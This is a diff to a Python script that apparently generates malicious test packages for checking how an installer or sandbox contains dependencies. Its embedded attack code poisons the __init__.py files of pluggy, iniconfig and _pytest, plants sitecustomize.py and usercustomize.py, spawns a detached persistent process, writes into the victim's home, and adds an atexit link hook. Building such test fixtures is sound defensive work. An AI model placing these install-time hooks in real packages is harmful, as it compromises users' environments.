@@ -3,7 +3,7 @@
     python packages.py FOLDER VICTIM STAYS PORT
 
 `wheel` is a wheel; all others are source distributions. The hooks of `built` look for the login and leave everything
-else alone; those of `thief` attack what comes after them, those of `later` look through what an earlier one may have
+else alone; those of `thief` change what comes after them, those of `linker` leave links as well, those of `later` look through what an earlier one may have
 changed; `liar` builds a wheel of another project, `link` and `pipe` one that is no file.
 """
 
@@ -114,8 +114,6 @@ def poison():
                 path = os.path.join(folder, name)
                 if name == "__init__.py" and os.path.basename(folder) in ("pluggy", "iniconfig", "_pytest"):
                     append(path, line)
-                elif name.endswith((".msgpack", ".http", ".rev")):
-                    append(path, "x")
     for name in ("sitecustomize.py", "usercustomize.py"):
         for folder in list(sys.path) + [os.path.expanduser("~/.local/lib/python%d.%d/site-packages" % sys.version_info[:2])]:
             append(os.path.join(folder or ".", name), line)
@@ -129,11 +127,14 @@ def stay():
     subprocess.Popen([sys.executable, "-c", code, STAYS], start_new_session=True, stdin=null, stdout=null, stderr=null)
 
 
-import atexit
 poison()
 stay()
 for path in (os.path.expanduser("~/written-by-a-dependency"), "/old" + VICTIM + "/home/written-by-a-dependency"):
     append(path, "x")
+'''
+
+LINK = '''
+import atexit
 atexit.register(link)
 '''
 
@@ -213,6 +214,7 @@ def wheel(name):
 wheel("wheel")
 setuptools("built", "")
 setuptools("thief", ATTACK)
+setuptools("linker", ATTACK + LINK)
 setuptools("later", "")
 own_backend("liar", "pluggy", "99.0")
 own_backend("link", "demo_link")
